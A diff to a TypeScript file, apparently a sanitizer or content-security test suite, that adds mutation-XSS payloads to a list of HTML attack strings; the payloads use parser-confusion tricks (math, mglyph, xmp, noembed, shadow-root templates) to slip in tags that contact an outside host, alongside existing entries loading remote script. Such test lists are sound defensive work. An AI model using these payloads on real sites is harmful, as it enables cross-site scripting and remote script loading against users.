@@ -7,6 +7,13 @@ export const attacks = (out: string): string[] => {
   const js = `javascript:${run}`;
   return [
     `<script>${run}</script>`,
+    `<form><math><mtext></form><form><mglyph><xmp><link rel=preconnect href="${out}"></xmp>`,
+    `<form><math><mtext></form><form><mglyph><style></math><link rel=preconnect href="${out}"></style>`,
+    `<xmp><link rel=preconnect href="${out}"></xmp>`,
+    `<math><annotation-xml encoding="text/html"><xmp><link rel=preconnect href="${out}"></xmp>`,
+    `<svg><title><xmp><link rel=preconnect href="${out}"></xmp></title></svg>`,
+    `<noembed><link rel=preconnect href="${out}"></noembed>`,
+    `<template shadowrootmode=open><link rel=preconnect href="${out}"></template>`,
     `<script src="${out}/a.js"></script>`,
     `<script type="module">${run}</script>`,
     `<script type="importmap">{"imports":{"a":"${out}/a.js"}}</script>`,
